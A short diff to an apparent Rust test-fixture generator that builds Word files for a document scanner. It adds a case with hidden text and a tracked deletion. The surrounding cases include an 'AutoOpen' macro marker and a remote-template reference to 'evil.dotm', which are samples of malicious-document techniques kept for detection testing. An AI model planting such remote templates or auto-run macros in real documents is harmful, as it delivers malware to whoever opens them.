@@ -83,6 +83,10 @@ fn make(name: &str) -> Vec<u8> {
                 ("word/attachedToolbars.bin", "AutoOpen"),
             ],
         ),
+        "hidden" => plain(
+            "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>隠し文字</w:t></w:r>\
+             <w:del w:id=\"1\" w:author=\"a\"><w:r><w:delText>前の案</w:delText></w:r></w:del></w:p>",
+        ),
         "remote_template" => with_settings(
             "<w:attachedTemplate r:id=\"rId1\"/>",
             &[("rId1", "attachedTemplate", "external:http://127.0.0.1/evil.dotm")],
